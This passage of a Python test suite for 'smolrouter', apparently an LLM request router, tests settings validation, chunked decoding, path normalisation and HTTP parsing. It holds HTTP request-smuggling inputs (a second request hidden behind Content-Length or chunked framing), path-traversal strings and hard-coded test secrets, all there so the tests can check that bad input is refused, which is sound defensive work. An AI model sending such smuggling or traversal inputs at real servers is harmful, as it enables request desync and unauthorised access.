    return smolrouter.Row(*(values.get(name) for name in smolrouter.Row._fields))


# What the row of a request that runs does not have yet.
UNFINISHED = dict.fromkeys(
    ("failed", "status_code", "completed_at", "duration_ms", "prompt_tokens", "completion_tokens")
)


def new_record(number: int, content: bytes = b"{}", answer: bytes = b"", **more: Any) -> Any:
    """The record of a request that begins, with what its upstream has said so far."""
    top = smolrouter.parse_request_head(f"POST {CHAT} HTTP/1.1\r\nHost: a".encode())
    asked = smolrouter.Request(top, None, None, "::1", content=content)
    decision = smolrouter.Decision("m", "m", "m", "failover", (), ())
    record = smolrouter.RequestRecord.of(f"id{number}", asked, False, decision)
    record.status = 200
    record.response_fields = smolrouter.Fields([])
    record.pieces = [answer]
    for name, value in more.items():
        setattr(record, name, value)
    return record


def make_record(number: int, days: float = 0.0, **more: Any) -> Any:
    """A record that was ready to be written some days ago."""
    row = make_row(number, days, **more)
    record = new_record(number, id=row.id, row=row)
    detail = smolrouter.Detail("{}", b"asked" * 50, os.urandom(300))
    record.data, record.blobs = smolrouter.pack_detail(detail, smolrouter.LIMITS.inline_body)
    record.body_bytes = len(record.data)
    return record


@contextlib.contextmanager
def running_log(
    log_folder: LogFolder, settings: Mapping[str, Any] = {}, **limits: Any
) -> Iterator[Any]:
    """A log in this process, without a router; what it prints is in `lines`."""
    lines: list[str] = []
    mask = os.umask(0o077)
    log = smolrouter.RequestLog(
        settings_of(log_folder, **settings),
        dataclasses.replace(smolrouter.LIMITS, **limits),
        lines.append,
    )
    os.umask(mask)
    log.lines = lines
    try:
        yield log
    finally:
        log.close()


def log_requests(log: Any, count: int, **more: Any) -> list[Any]:
    """Let requests begin and end."""
    records = [new_record(number, **more) for number in range(count)]
    for record in records:
        answer = b"".join(record.pieces)
        record.pieces = []
        log.begin(record)
        log.append_body(record, answer)
        log.finish(record)
    return records


# --- the browser ----------------------------------------------------------------------


def chromium_path() -> str:
    """Find Chromium; without it, skip the test, or fail it if all must run."""
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if not found and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no Chromium")
    return found or pytest.skip("there is no Chromium")


# --- values that hypothesis makes up --------------------------------------------------
# A property that is to hold for whatever hypothesis makes up is written as
#
#     @fuzz(lambda st: {"text": st.text()})
#     def test_fuzz_something(text: str) -> None:
#
# where `st` is hypothesis.strategies, and the test is skipped where hypothesis is missing.

# How many new examples of each property are tried; 0: forty, the same ones each time.
FUZZ_EXAMPLES = int(os.environ.get("SMOLROUTER_FUZZ", "0"))


def fuzz(make: Callable[[Any], Mapping[str, Any]]) -> Callable[[Callable], Callable]:
    """Turn a property into a test; `make` returns a strategy for each of its arguments."""

    def decorate(holds: Callable[..., None]) -> Callable[[], None]:
        def test() -> None:
            hypothesis = import_or_skip("hypothesis")
            settings = hypothesis.settings(
                max_examples=FUZZ_EXAMPLES or 40,
                derandomize=not FUZZ_EXAMPLES,
                database=None,
                deadline=None,
                suppress_health_check=list(hypothesis.HealthCheck),
            )
            given = hypothesis.given(**make(hypothesis.strategies))
            settings(given(holds))()

        return test

    return decorate


TEXT_BITS = [
    "<think>",
    "</think>",
    "<",
    "</",
    "think>",
    "<thin",
    "k>",
    "a",
    " ",
    "\n",
    "```json",
    "```",
    "`",
    "{}",
    "~~~",
    '"',
    "[THINK]",
    "<|channel>thought",
    "<|channel|>",
    "analysis",
    " to=f",
    "<|message|>",
    "<|end|>",
    "<|start|>assistant",
    "\ud83d\ude00",
]


def lists_of_bits(st: Any, bits: Sequence[Any], most: int = 12) -> Any:
    """Make lists of bits: what they are together, and at the same time how that is split."""
    some = st.binary(max_size=4) if isinstance(bits[0], bytes) else st.text(max_size=3)
    return st.lists(st.one_of(st.sampled_from(bits), some), max_size=most)


def json_values(st: Any) -> Any:
    """Make JSON documents, with odd keys too."""
    numbers = st.integers(-(2**70), 2**70) | st.floats(allow_nan=False, allow_infinity=False)
    leaves = st.none() | st.booleans() | numbers | st.text(max_size=8)
    keys = st.sampled_from(["model", "messages", "a", "", '"', "\\"]) | st.text(max_size=3)
    return st.recursive(
        leaves,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
        max_leaves=12,
    )


# --- secrets for tokens ---------------------------------------------------------------

SECRET_KEY = "k9$Lm2#Qx7!Vb4@Zt6^Wp1&Rd8*Ns3%Ge5"
SECRET = "Kp3-vD9xQ2mT7rLw8ZyB4nHs6JcF1gAe"


# --- the filter of a stream, without sockets ------------------------------------------

EVENT_ENDS = (b"\n\n", b"\r\n\r\n", b"\r\r")


def answer_plan(
    path: str = CHAT,
    request: Any = None,
    dialect: Any = None,
    native: bool = True,
    rules: dict[str, bool] | None = None,
    renamed: bool = False,
    **limits: int,
) -> Any:
    """What is known of an answer, as the relay would know it; small limits, if any are given."""
    dialect = dialect or smolrouter.OPENAI
    request = {"model": "m", "messages": [], "prompt": "", "stream": True, **(request or {})}
    return smolrouter.AnswerPlan(
        parsed=dialect.read(path, "", encode_json(request)),
        dialect=dialect,
        native=native,
        rules=smolrouter.FilterRules(**(rules or {"think": True})),
        hide_usage=True,
        renamed=renamed,
        now=lambda: 0.5,
        timing=lambda: smolrouter.Timing(5, 2),
        limits=smolrouter.Limits(**limits),
    )


def stream_filter(format: Any = None, **plan: Any) -> Any:
    """The filter of a streamed answer, which is a chat if nothing else is said."""
    planned, format = answer_plan(**plan), format or smolrouter.SSE
    changes = smolrouter.EventFilter(planned, format)
    return smolrouter.StreamRewrite(planned, format, changes)


# ======================================================================================
# 1  Errors
# ======================================================================================
# A new error is tested where it arises, from end to end. Here stands what holds for all.


def test_long_error_of_a_server_is_cut_in_row_and_line() -> None:
    failed = {"error": {"message": "no " + "x" * 200_000}}
    model = default_upstream().add_script(json_response(failed))
    got = request(logging_router().port, "POST", "/api/chat", chat_document(model, stream=False))
    assert got.json["error"] == failed["error"]["message"]
    assert (
        wait_for_row(logging_router(), model)["error_message"] == failed["error"]["message"][:400]
    )
    line = wait_until(lambda: [li for li in logging_router().stderr.splitlines() if model in li])[0]
    assert len(line) < 1000


@pytest.mark.parametrize("method, path, more", [
    ("GET", f"/v1/models/{'y' * 9999}", None), ("POST", "/api/show", {"model": "y" * 9999}),
    ("y" * 9999, "/v1/models", None),
])  # fmt: skip
def test_long_name_is_quoted_in_part(method: str, path: str, more: Any) -> None:
    got = request(sdk_router().port, method, path, more)
    assert got.status in (404, 405) and len(got.content) < 500


# ======================================================================================
# 2  Settings
# ======================================================================================
# A new setting gets a line in SETTINGS, with values that are good and values that are refused;
# what it does is tested in the section that does it.

SETTINGS: dict[str, tuple[list[str], list[str]]] = {
    "DEFAULT_UPSTREAM": (
        ["http://box:8000", "https://box/v1/", "box:8000", "http://[::1]:80/a/b"],
        ["http://", "ftp://box", "http://box:port", "http://box:99999", "http://a b",
         "http://box/v1/chat/completions", "http://a..b", "http://" + "x" * 70, "a..b", "none"]),
    "SERVERS": (
        ["http://box:8000", "a=box:1,b=http://box:2/v1 box:3", "none", " "],
        ["a=", "=http://box", "ftp://box", "a=http://box,a=http://box2", "box:1 http://box:1",
         "http://a..b", "http://box/api/tags"]),
    "DEFAULT_ROUTE": (["http://box:8000"], []),
    "DEFAULT_MODEL": (["llama3", "org/some model"], ["", " "]),
    "LISTEN_HOST": (
        ["127.0.0.1", "::1", "[::1]", "0.0.0.0", "localhost", "box.lan."],
        ["a..b", ".", "x" * 70, "*", "http://box", "box:80", "a b", " "]),
    "LISTEN_PORT": (["0", "1234", "65535"], ["x", "-1", "65536"]),
    "MODEL_MAP": (
        ["{}", '{"a": "b"}', r'{"/^(a|b)-x$/": "\\1-y"}', r'{"/(?P<n>a)/": "\\g<n>"}'],
        ["[]", "{", '{"a": 1}', '{"/(/": "x"}', '{"/a/": "\\\\1"}', "gpt-4=llama",
         '{"/^GPT/i": "x"}', '{"a": "b", "/gpt/gi": "x"}']),
    "ROUTE_BY_MODEL": (["true", "off"], ["maybe"]),
    "STRIP_THINKING": (["1", "TRUE", "Yes", "on", "off", "move", "MOVE"], ["2", "strip"]),
    "STRIP_JSON_MARKDOWN": (["0", "False", "NO", "off"], ["ja"]),
    "DISABLE_THINKING": (["true", "false"], ["enabled"]),
    "STRIP_ATTRIBUTION": (["true", "0"], ["never"]),
    "ENABLE_LOGGING": (["true", "false"], ["-1"]),
    "REQUEST_TIMEOUT": (["3000.0", "1", "0.5"], ["soon", "-1", "nan"]),
    "CONNECT_TIMEOUT": (["5", "0.25"], ["soon"]),
    "PING_INTERVAL": (["15", "0", "0.5"], ["soon", "-1", "4000"]),
    "QUEUE_TIMEOUT": (["300", "0.5"], ["soon", "0", "-1", "90000"]),
    "QUEUE_SIZE": (["1000", "0"], ["many", "-1", "1.5"]),
    "MAX_LOG_AGE_DAYS": (["7", "1"], ["week"]),
    "BLOB_STORAGE_TYPE": (["filesystem", "memory"], ["s3"]),
    "MAX_BLOB_SIZE": (["1000"], ["-1"]),
    "MAX_TOTAL_STORAGE_SIZE": (["1000"], ["-1"]),
    "MAX_REQUEST_SIZE": (["1000"], ["much", "1.5"]),
    "MAX_CONNECTIONS": (["10"], ["many"]),
    "JWT_SECRET": ([SECRET, f"  {SECRET} "], ["", "short", "ab" * 20, " " * 40]),
    "WEBUI_SECURITY": (["NONE", "AUTH_WHEN_PROXIED"], ["SOMETIMES", "ALWAYS_AUTH"]),
    "API_SECURITY": (["NONE", "AUTH_WHEN_PROXIED"], ["SOMETIMES", "ALWAYS_AUTH"]),
    "TLS_CERT": ([], ["cert.pem"]),
    "TLS_KEY": ([], ["key.pem"]),
    "TRUSTED_PROXIES": (["10.0.0.0/8, ::1", "10.0.0.1"], ["10.0.0.0/33", "proxy"]),
    "ALLOWED_HOSTS": (
        ["router.example", "a.example,b.example:8080", "10.0.0.1 ::1 [::1]"],
        ["*", "*.lan", "http://a.example", "a.example/x", "a..b", "a.example:x"]),
    "ALLOWED_ORIGINS": (
        ["*", "https://a.example, https://b.example", "app:, tauri: vscode-webview:"],
        ["https:", "http:", "app", "app:/", ":"]),
    "SHUTDOWN_GRACE": (["8", "0.5", "0"], ["soon", "-1"]),
    "LOG_LEVEL": (["DEBUG", "INFO", "WARNING", "ERROR"], ["LOUD"]),
    "ROUTES_CONFIG": ([], ["nowhere.yaml"]),
}  # fmt: skip


def test_good_settings() -> None:
    good = {name: values for name, (values, _) in SETTINGS.items() if values}
    for turn in range(max(map(len, good.values()))):
        settings = {name: values[turn % len(values)] for name, values in good.items()}
        done = run_program("check", settings=settings)
        assert done.returncode == 0, done.stderr


SEVERAL_SERVERS = {"SERVERS": "mac=http://mac:1/v1, gpu:2"}
DEFAULTS = (
    # settings, the routing file's servers, the default server, its URL
    ({}, {}, "default", "http://localhost:8000"),
    ({}, {"a": "http://a:1"}, "default", "http://localhost:8000"),
    (SEVERAL_SERVERS, {}, "mac", "http://mac:1"),
    ({"SERVERS": "gpu:2"}, {"file": "http://gpu:2"}, "file", "http://gpu:2"),
    ({**SEVERAL_SERVERS, "DEFAULT_UPSTREAM": "gpu:2"}, {}, "gpu:2", "http://gpu:2"),
    ({**SEVERAL_SERVERS, "DEFAULT_UPSTREAM": "http://mac:1"}, {}, "mac", "http://mac:1"),
    ({**SEVERAL_SERVERS, "DEFAULT_ROUTE": "http://b"}, {}, "default", "http://b"),
    ({"DEFAULT_ROUTE": "http://b", "DEFAULT_UPSTREAM": "http://c"}, {}, "default", "http://c"),
    ({"DEFAULT_UPSTREAM": "a"}, {"b": "http://b", "a": "http://a:1"}, "a", "http://a:1"),
    ({"DEFAULT_UPSTREAM": "http://a:1/v1/"}, {"b": "http://b", "a": "a:1"}, "a", "http://a:1"),
)


@pytest.mark.parametrize("given, servers, name, url", DEFAULTS)
def test_the_default_server(given: dict, servers: dict, name: str, url: str) -> None:
    settings = smolrouter.Settings.from_mapping(given)
    table = smolrouter.parse_routes(json.dumps({"servers": servers}), "routes", {}, settings)
    assert (table.default.name, str(table.default.url)) == (name, url)
    names = [server.name for server in table.all_servers()]
    assert len(set(names)) == len(names)


def test_servers_stand_behind_those_of_the_routing_file() -> None:
    settings = smolrouter.Settings.from_mapping({"SERVERS": "a=http://a, http://b, c=http://c"})
    text = (
        '{"servers": {"z": "http://z", "b-box": "http://b/v1", "a": {"url": "a", "api_key": "k"}}}'
    )
    table = smolrouter.parse_routes(text, "routes", {}, settings)
    assert list(table.servers) == ["z", "b-box", "a", "c"]
    assert table.default is table.servers["a"] and table.default.api_key == "k"
    with pytest.raises(smolrouter.ConfigError, match="SERVERS: 'c' is http://c, in the routing"):
        smolrouter.parse_routes('{"servers": {"c": "http://d"}}', "routes", {}, settings)


def test_bad_settings_stop_with_one_line(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for name, value in [(name, bad) for name, (_, values) in SETTINGS.items() for bad in values]:
        with pytest.raises(smolrouter.ConfigError) as raised:
            smolrouter.run_command(["check"], {name: value})
        (line,) = str(raised.value).splitlines()
        assert name in line or "JWT_SECRET" in line, line
        assert value in line or name in ("JWT_SECRET", "MODEL_MAP"), line
    done = run_program("check", settings={"LISTEN_PORT": "x"})
    (line,) = done.stderr.strip().splitlines()
    assert done.returncode == 2 and "LISTEN_PORT" in line and "'x'" in line


def test_all_origins_that_are_taken_are_named() -> None:
    for origin in ("loopback", "null", "*"):
        assert smolrouter.parse_origins(origin) == (origin,)
        with pytest.raises(ValueError, match=rf"allowed are .*{re.escape(origin)}"):
            smolrouter.parse_origins("nonsense")


def test_the_ends_of_a_range_are_written_as_they_are_read() -> None:
    for low, high, whole in ((0, 10**15, True), (0.01, 1e6, False)):
        parse = smolrouter.number_between(low, high, whole)
        with pytest.raises(ValueError, match=" to ") as raised:
            parse("x")
        first, last = re.findall(r"\S+(?= to)|(?<=to )\S+", str(raised.value))
        assert (parse(first), parse(last)) == (low, high)


BAD_PATTERNS = {
    "/^GPT/i": "write '/(?i)^GPT/'",
    "/gpt/gim": "write '/(?im)gpt/'",
    "/a/b/g": "write '/a/b/'",
    "/(/": "regular expression",
}
PATTERNS = {
    "/(?i)^gpt/": re.compile("(?i)^gpt"),
    "/a/b/": re.compile("a/b"),
    # The ids of models are paths where vLLM has them on its disk.
    "/models/qwen": "/models/qwen",
    "//": "//",
    "org/name": "org/name",
}


@pytest.mark.parametrize("text, expected", PATTERNS.items())
def test_what_is_a_pattern_and_what_a_name(text: str, expected: Any) -> None:
    assert smolrouter.parse_pattern(text) == expected


@pytest.mark.parametrize("text, remedy", BAD_PATTERNS.items())
def test_bad_pattern_is_refused_with_the_remedy(text: str, remedy: str) -> None:
    with pytest.raises(ValueError, match=re.escape(remedy)):
        smolrouter.parse_pattern(text)


def test_every_setting_may_be_missing() -> None:
    done = run_program("check")
    assert (done.returncode, done.stderr) == (0, "")
    assert "http://localhost:8000" in done.stdout


def test_spellings_of_an_upstream_url() -> None:
    spellings = [
        f"{prefix}{suffix}"
        for prefix in ("", "/some/prefix")
        for suffix in ("", "/", "/v1", "/v1/")
    ]
    with Upstream(lambda r: json_response({"target": r.target})) as upstream:
        servers = {f"s{n}": upstream.url + end for n, end in enumerate(spellings)}
        routes = [{"match": {"model": s}, "route": {"upstream": s}} for s in servers]
        with Router({}, {"servers": servers, "routes": routes}) as router:
            for name, end in zip(servers, spellings, strict=True):
                prefix = "/some/prefix" if "prefix" in end else ""
                assert post_chat(router, name).json["target"] == f"{prefix}{CHAT}", end


# ======================================================================================
# 3  HTTP messages
# ======================================================================================
# Heads, chunks and codings on bytes; then requests that are not HTTP, over sockets. A new rule
# of the grammar gets a case in MALFORMED that breaks it.

# --- chunks ---------------------------------------------------------------------------

CHUNKS = [
    (b"5\r\nhello\r\n0\r\n\r\n", b"hello"),
    (b"5;a=b\r\nhello\r\n0;last\r\n\r\n", b"hello"),
    (b"5 ;a\r\nhello\r\n6\r\n\r\n\r\n\r\n\r\n0\r\n\r\n", b"hello\r\n\r\n\r\n"),
    (b"A\r\n0123456789\r\na\r\n0123456789\r\n000\r\n\r\n", b"0123456789" * 2),
    (b"1\r\nx\r\n0\r\nTrailer: gone\r\nX: y\r\n\r\n", b"x"),
    (b"0\r\n\r\n", b""),
]


@pytest.mark.parametrize("data, content", CHUNKS)
def test_chunks_at_every_split(data: bytes, content: bytes) -> None:
    for pieces in every_split(data):
        decoder = smolrouter.ChunkDecoder()
        assert b"".join(map(decoder.feed, pieces)) == content
        assert decoder.done and decoder.buffered == b""


def decode_chunks(pieces: Iterable[bytes]) -> tuple[bytes, bool, bytes] | str:
    """Decode pieces: the content, whether it is complete and what follows; or the error's name."""
    decoder = smolrouter.ChunkDecoder()
    content = b""
    try:
        for piece in pieces:
            content += decoder.feed(piece)
    except smolrouter.BadRequest as fault:
        return type(fault).__name__
    return content, decoder.done, decoder.buffered


def test_chunks_in_bulk_are_chunks_one_by_one() -> None:
    random = __import__("random").Random(7)
    shapes = [b"data: %b\n\n"] * 12 + [b"%b\n", b"%b", b"a\n%b\n\n", b"\r\n%b", b"%b\n\n\r\n"]
    faults = [
        (b"\r\n", b"\r"),
        (b"\r\n", b"\n"),
        (b"e\r\n", b"E\r\n"),
        (b"\n\n\r\n", b"\n\r\n"),
        (b"1", b"01"),
        (b"\r\ndata", b";x=y\r\ndata"),
    ]
    bad = 0
    for turn in range(80):
        sizes = [random.choice([1, 40, 1100])] if turn % 2 else [1, 40, 1100]
        some = [random.choice(shapes)] if turn % 2 else shapes
        contents = [
            random.choice(some) % bytes(random.choices(b'ab0"{', k=random.choice(sizes)))
            for _ in range(random.randrange(1, 30))
        ]
        data = b"".join(map(smolrouter.encode_chunk, contents)) + b"0\r\n\r\n"
        if turn % 4 < 2:
            start = random.randrange(len(data))
            data = data[:start] + data[start:].replace(*random.choice(faults), 1)
        cut = random.randrange(len(data))
        slowly = decode_chunks(bytes([octet]) for octet in data)
        bad += isinstance(slowly, str)
        assert decode_chunks([data]) == decode_chunks([data[:cut], data[cut:]]) == slowly
        if turn % 4 > 1:
            assert slowly == (b"".join(contents), True, b"")
    assert bad > 8


@pytest.mark.parametrize("size", [5, 26, 190])
def test_every_octet_that_frames_a_chunk_is_looked_at(size: int) -> None:
    """Also among many chunks of one size, and of one line, which are read at once."""
    for ending in (b"\n\n", b"x\r"):
        chunk = b"%x\r\n%s%s\r\n" % (size, b"a" * (size - 2), ending)
        count = 2000 // len(chunk) + 2
        data = chunk * count + b"0\r\n\r\n"
        assert decode_chunks([data])[:2] == ((b"a" * (size - 2) + ending) * count, True)
        start = len(chunk) * (count // 2)
        frame = [*range(chunk.index(b"\n") + 1), len(chunk) - 2, len(chunk) - 1]
        for at in (start + at for at in frame):
            for octet in (b"X", b"\r", b"\n", b"0", b"f"):
                if data[at : at + 1] != octet:
                    wrong = data[:at] + octet + data[at + 1 :]
                    slowly = decode_chunks(bytes([octet]) for octet in wrong)
                    assert decode_chunks([wrong]) == slowly
                    assert isinstance(slowly, str) or slowly[1] is False or octet in b"0f"


BAD_CHUNKS = {
    "no size": b"\r\nhello",
    "sign": b"+5\r\nhello\r\n",
    "prefix": b"0x5\r\nhello\r\n",
    "underscore": b"1_0\r\nhello",
    "space before": b" 5\r\nhello\r\n",
    "space after": b"5 \r\nhello\r\n",
    "sixteen digits": b"0000000000000005\r\nhello\r\n",
    "bare LF after the size": b"5\nhello\r\n",
    "bare LF in an extension": b"5;a\nb\r\nhello\r\n",
    "NUL in an extension": b"5;\0\r\nhello\r\n",
    "content longer than its size": b"4\r\nhello\r\n",
    "bare LF after the content": b"5\r\nhello\n0\r\n\r\n",
    "long extension": b"5;" + b"x" * 2000 + b"\r\nhello\r\n",
    "many extensions": (b"1;" + b"x" * 900 + b"\r\ny\r\n") * 20,
    "bad trailer": b"0\r\nno colon\r\n\r\n",
    "long trailers": b"0\r\n" + b"a: b\r\n" * 2000,
}


@pytest.mark.parametrize("data", BAD_CHUNKS.values(), ids=BAD_CHUNKS.keys())
def test_bad_chunks_are_refused_at_every_split(data: bytes) -> None:
    step = max(1, len(data) // 50)
    for cut in range(0, len(data), step):
        decoder = smolrouter.ChunkDecoder()
        with pytest.raises(smolrouter.RouterError):
            [decoder.feed(data[:cut]), decoder.feed(data[cut:])]


CHUNK_BITS = [
    b"0",
    b"1",
    b"5",
    b"a",
    b"F",
    b"00",
    b"\r\n",
    b"\r",
    b"\n",
    b";x",
    b"x=1",
    b" ",
    b"hello",
    b"A: b",
    b"\0",
    b"0\r\n\r\n",
    b"5\r\nhello\r\n",
]


def take_any_chunks(data: bytes) -> tuple[bytes, bytes] | None:
    """Read chunked content by other means than the program's: content and rest, None when bad."""
    content = b""
    trailers = False
    while True:
        line, end, rest = data.partition(b"\r\n")
        if not end:
            return None
        if trailers:
            if not line:
                return content, rest
            name = line.partition(b":")[0]
            if b":" not in line or not re.fullmatch(rb"[!#$%&'*+.^_`|~0-9A-Za-z-]+", name):
                return None
            if re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line):
                return None
            data = rest
            continue
        match = re.fullmatch(rb"([0-9A-Fa-f]{1,15})([ \t]*;[\t\x20-\x7e\x80-\xff]*)?", line)
        if not match:
            return None
        size = int(match[1], 16)
        trailers = not size
        data = rest
        if size:
            if rest[size : size + 2] != b"\r\n":
                return None
            content = content + rest[:size]
            data = rest[size + 2 :]


@fuzz(lambda st: {"bits": lists_of_bits(st, CHUNK_BITS, 16)})
def test_fuzz_chunks(bits: list[bytes]) -> None:
    """However the octets come, the content is the same, and an oracle's."""
    outcomes = set()
    for pieces in (bits, [b"".join(bits)], [bytes([n]) for n in b"".join(bits)]):
        decoder = smolrouter.ChunkDecoder()
        content = b""
        try:
            for at, piece in enumerate(pieces):
                content += decoder.feed(piece)
                if decoder.done:
                    outcomes.add((content, decoder.buffered + b"".join(pieces[at + 1 :])))
                    break
            else:
                outcomes.add(None)
        except smolrouter.BadRequest:
            outcomes.add(None)
    assert outcomes == {take_any_chunks(b"".join(bits))}


@pytest.mark.parametrize("limits, data", [
    ({"chunk_line": 8}, b"5;a=bcdef\r\nhello\r\n"),
    ({"chunk_extensions": 8}, b"1;abcd\r\nx\r\n1;abcd\r\ny\r\n"),
    ({"trailers": 8}, b"0\r\nA: b\r\nC: d\r\n\r\n"),
])  # fmt: skip
def test_each_limit_of_chunks_counts(limits: dict[str, int], data: bytes) -> None:
    """With a limit of eight octets the ninth is refused, however the octets come."""
    assert isinstance(smolrouter.ChunkDecoder().feed(data), bytes)
    for pieces in every_split(data):
        decoder = smolrouter.ChunkDecoder(smolrouter.Limits(**limits))
        with pytest.raises(smolrouter.RouterError):
            [decoder.feed(piece) for piece in pieces]


@pytest.mark.parametrize("framing, data, content, follows", [
    (smolrouter.Framing("length", 5), b"helloGET", b"hello", b"GET"),
    (smolrouter.NO_CONTENT, b"GET", b"", b"GET"),
    (smolrouter.CHUNKED, b"5\r\nhello\r\n0\r\n\r\nGET", b"hello", b"GET"),
    (smolrouter.UNTIL_CLOSE, b"hello", b"hello", b""),
])  # fmt: skip
def test_each_framing_ends_where_it_says(
    framing: smolrouter.Framing, data: bytes, content: bytes, follows: bytes
) -> None:
    for pieces in every_split(data):
        decoder = smolrouter.make_decoder(framing)
        read, unread = b"", b""
        for piece in pieces:
            if decoder.done:
                unread += piece
            else:
                read += decoder.feed(piece)
        assert (read, decoder.buffered + unread) == (content, follows)
        assert decoder.done == (framing is not smolrouter.UNTIL_CLOSE)


# --- heads, paths and fields ----------------------------------------------------------

HTTP_BITS = [
    b"GET", b"POST", b" ", b"/v1/x", b"http://a", b"HTTP/1.1", b"HTTP/1.0", b"\r\n", b"\r", b"\n",
    b":", b"Host: a", b"Content-Length: 5", b"Content-Length", b"Transfer-Encoding: chunked", b"0",
    b"5", b"ff", b"chunked", b",", b";", b"\t", b"\0", b"\x80", b"\xff", b"a", b"Connection: close",
    b"HTTP/1.1 200 OK", b"%41", b"..", b"//", b"?", b"#", b"*", b"[::1]", b"@",
]  # fmt: skip
STARTS = [
    b"",
    b"GET /v1/x HTTP/1.1\r\nHost: a\r\n",
    b"GET http://b/ HTTP/1.0\r\n",
    b"HTTP/1.1 200 OK\r\n",
    b"HTTP/1.0 204 \r\nA:\r\n",
]


@fuzz(lambda st: {"start": st.sampled_from(STARTS), "bits": lists_of_bits(st, HTTP_BITS)})
def test_fuzz_heads(start: bytes, bits: list[bytes]) -> None:
    """A head is refused, or it reads the same when it is written down again."""
    bits = [start, *bits]
    for parse_head in (smolrouter.parse_request_head, smolrouter.parse_response_head):
        try:
            read = parse_head(b"".join(bits))
        except smolrouter.BadRequest:
            continue
        lines = [f"{name}: {value}" for _, name, value in read.fields.lines]
        if isinstance(read, smolrouter.RequestHead):
            target = read.path + read.query
            first = f"{read.method} {target} HTTP/1.{read.minor}"
            if read.host and not read.fields.get("host"):
                lines.append(f"Host: {read.host}")
        else:
            with contextlib.suppress(smolrouter.BadRequest):
                read.framing("GET")
            first = f"HTTP/1.{read.minor} {read.status} {read.reason}"
        again = parse_head("\r\n".join([first, *lines]).encode("latin-1"))
        assert again.fields.lines[: len(read.fields.lines)] == read.fields.lines
        if isinstance(read, smolrouter.RequestHead):
            assert (again.path, again.query, again.framing) == (read.path, read.query, read.framing)


def test_short_heads_are_remembered_and_long_ones_are_not() -> None:
    """A client that sends many different long heads must not fill the memory."""
    calls = []

    @smolrouter.remember_short
    def count_fields(head: smolrouter.RequestHead, more: int) -> int:
        calls.append(head)
        return len(head.fields.lines) + more

    start = b"GET / HTTP/1.1\r\nHost: a\r\nX: "
    for size, is_remembered in ((10, True), (10_000, False)):
        head = smolrouter.parse_request_head(start + b"x" * size)
        again = smolrouter.parse_request_head(start + b"x" * size)
        assert (head is again) == is_remembered
        calls.clear()
        assert count_fields(head, 1) == count_fields(head, 1) == 3
        assert count_fields(head, 2) == 4
        assert len(calls) == (2 if is_remembered else 3)
        # The fields of a head are remembered like the head; any others are not.
        assert (head.fields.size <= smolrouter.LONGEST_REMEMBERED_HEAD) == is_remembered
    assert smolrouter.Fields(head.fields.lines).size == math.inf


PATHS = [
    ("/v1/models", "/v1/models"),
    ("//api/logs", "/api/logs"),
    ("/api/./logs", "/api/logs"),
    ("/%61pi/logs", "/api/logs"),
    ("/api/logs/", "/api/logs"),
    ("/api/x/../logs", "/api/logs"),
    ("/../../api/logs", "/api/logs"),
    ("/%2e%2e/api/logs", "/api/logs"),
    ("/v1/models/org%2fname", "/v1/models/org%2Fname"),
    ("/v1/caf%c3%a9", "/v1/caf%C3%A9"),
    ("/", "/"),
    ("/.", "/"),
]


@pytest.mark.parametrize("path, normal", PATHS)
def test_path_has_one_spelling(path: str, normal: str) -> None:
    assert smolrouter.normalise_path(path) == normal
    assert smolrouter.normalise_path(normal) == normal


@fuzz(lambda st: {"path": st.text("/.%2eEfF41a;\\~", max_size=12)})
def test_fuzz_paths(path: str) -> None:
    """A normal path has no other spelling, and leads nowhere above its root."""
    try:
        normal = smolrouter.normalise_path(f"/{path}")
    except smolrouter.BadRequest:
        assert re.search("%(?![0-9A-Fa-f]{2})", path)
        return
    assert smolrouter.normalise_path(normal) == normal
    assert normal.startswith("/") and not {"", ".", ".."} & {*normal[1:].split("/")} - {""}
    assert "//" not in normal


RETRY_AFTER = [
    ("0", 0.0), ("7", 7.0), ("999999", 999999.0), ("1000000", None), ("-1", None), ("1.5", None),
    ("Thu, 01 Jan 1970 00:16:50 GMT", 10.0), ("Thu, 01 Jan 1970 00:00:00 GMT", 0.0),
    ("Thursday, 01-Jan-70 00:16:50 GMT", 10.0), ("Thu Jan  1 00:16:50 1970", 10.0),
    ("Thu, 01 Jan 99999999999 00:00:00 GMT", None), ("soon", None), (",", None),
    ("Thu, 99 Foo 1970 00:16:50 GMT", None),
]  # fmt: skip


@pytest.mark.parametrize("text, seconds", RETRY_AFTER)
def test_retry_after(text: str, seconds: float | None) -> None:
    assert smolrouter.parse_retry_after(text, 1000.0) == seconds


# --- requests that are not HTTP -------------------------------------------------------

EVIL_HEAD = b"POST /v1/EVIL HTTP/1.1\r\nHost: router\r\n"
SMUGGLED_NEXT = b"GET /v1/EVIL-smuggled HTTP/1.1\r\nHost: router\r\n\r\n"
EVIL_CONTENT = b'{"model":"EVIL"}'


def with_length(value: bytes, content: bytes = EVIL_CONTENT + SMUGGLED_NEXT) -> bytes:
    """Make a request with this Content-Length, and another request behind it."""
    return EVIL_HEAD + b"Content-Length: " + value + b"\r\n\r\n" + content


def with_coding(line: bytes, more: bytes = b"") -> bytes:
    """Make a request with this field line, content in a chunk, and another request behind it."""
    size = b"%x\r\n%s\r\n0\r\n\r\n" % (len(EVIL_CONTENT), EVIL_CONTENT)
    return EVIL_HEAD + line + b"\r\n" + more + b"\r\n" + size + SMUGGLED_NEXT


def with_chunks(body: bytes) -> bytes:
    """Make a request whose chunked content is exactly this."""
    return EVIL_HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + body + b"\r\n\r\n"


def with_fields(lines: bytes, host: bytes = b"Host: router\r\n") -> bytes:
    """Make a request with these field lines."""
    return b"GET /v1/EVIL HTTP/1.1\r\n" + host + lines + b"\r\n"


def with_first_line(first: bytes) -> bytes:
    """Make a request with this request line."""
    return first + b"\r\nHost: router\r\n\r\n"


EVIL_SIZE = b"%x" % len(EVIL_CONTENT)
EVIL_CHUNK = EVIL_SIZE + b"\r\n" + EVIL_CONTENT + b"\r\n"
MALFORMED: dict[str, tuple[bytes, set[int]]] = {
    name: (data, {400})
    for name, data in {
        # lengths
        "length and coding": with_coding(CHUNKED_FIELD, b"Content-Length: 4\r\n"),
        "coding and length": with_coding(b"Content-Length: 4", CHUNKED_FIELD + b"\r\n"),
